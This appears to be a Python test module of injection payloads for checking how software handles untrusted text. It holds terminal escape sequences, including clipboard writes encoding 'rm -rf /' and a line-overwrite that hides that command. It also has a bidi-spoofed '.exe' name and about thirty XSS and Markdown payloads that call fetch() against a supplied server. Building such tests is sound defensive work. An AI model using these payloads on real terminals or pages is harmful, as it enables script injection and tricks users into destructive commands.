"""This module has texts that try to be more than text: escape sequences for terminals, scripts for documents."""

from __future__ import annotations

TERMINAL_PAYLOADS = {
    "OSC 52 writes the clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "OSC 52, string terminator": "\x1b]52;c;cm0gLXJmIC8=\x1b\\",
    "OSC 8 hides a link": "\x1b]8;;https://example.com\x1b\\click\x1b]8;;\x1b\\",
    "OSC 0 sets the title": "\x1b]0;title\x07",
    "DECRQSS makes the terminal answer": "\x1bP$q\x22p\x1b\\",
    "CSI clears the screen": "\x1b[2J\x1b[H",
    "CSI asks for the cursor": "\x1b[6n",
    "8-bit CSI": "\x9b2J",
    "8-bit OSC": "\x9d52;c;cm0gLXJmIC8=\x9c",
    "8-bit DCS": "\x90$q\x22p\x9c",
    "overwriting the line": "rm -rf /\rls       \x08\x08",
    "noise": "\x00\x07\x0b\x0c\x0e\x0f\x1a\x7f",
}

INVISIBLE = [
    "user\u202etxt.exe\u202c",
    "zero\u200bwidth \U000e0041\U000e0042",
    "[bold red]markup[/] [@click=app.quit]x[/]",
]


def make_markup(server: str) -> list[str]:
    """Return texts that run a script or ask the server, if something takes them for HTML, CSS or Markdown."""
    run = f"fetch('{server}/ran');document.title='ran'"
    return [
        f"<script>{run}</script>",
        f"</title></style></textarea></pre></code></details><script>{run}</script>",
        f'<img src="{server}/img" onerror="{run}">',
        f"<svg onload=\"{run}\"><image href='{server}/svg'/></svg>",
        f'"><script>{run}</script>',
        f"'><img src=x onerror={run}>",
        f'" onmouseover="{run}" autofocus onfocus="{run}',
        f"<iframe src='{server}/frame' srcdoc='<script>{run}</script>'></iframe>",
        f"<object data='{server}/object'></object><embed src='{server}/embed'>",
        f"<link rel=stylesheet href='{server}/css'><style>@import '{server}/import';</style>",
        f"<base href='{server}/'><a href='x' ping='{server}/ping'>x</a>",
        f"<meta http-equiv=refresh content='0;url={server}/refresh'>",
        f"<form action='{server}/form'><input autofocus onfocus=\"{run}\"></form>",
        f"<video src='{server}/video' poster='{server}/poster' autoplay></video><audio src='{server}/audio'></audio>",
        f'<details open ontoggle="{run}"><summary>x</summary></details>',
        f"<div style=\"background:url('{server}/style')\">x</div>",
        f"![picture]({server}/markdown.png) [link](javascript:{run})",
        f"[reference]: {server}/reference\n[reference] ![reference]",
        f"<!-- --><!--><script>{run}</script>-->",
        f"<![CDATA[<script>{run}</script>]]>",
        f"```\n</pre><script>{run}</script>\n```",
        f"````\n```\n<script>{run}</script>",
        f"`<img src=x onerror={run}>` and \\`<script>{run}</script>`",
        f"&lt;script&gt;{run}&lt;/script&gt; &#60;script&#62;",
        f"| a |\n|---|\n| <script>{run}</script> |",
        f"# <script>{run}</script>\n**<b onclick=x>{run}</b>**",
        "javascript:alert(1) data:text/html,<script>alert(1)</script>",
        "</summary></details></section></main></body></html>",
        "\ufeff<\u0000script>alert(1)</script>",
    ]
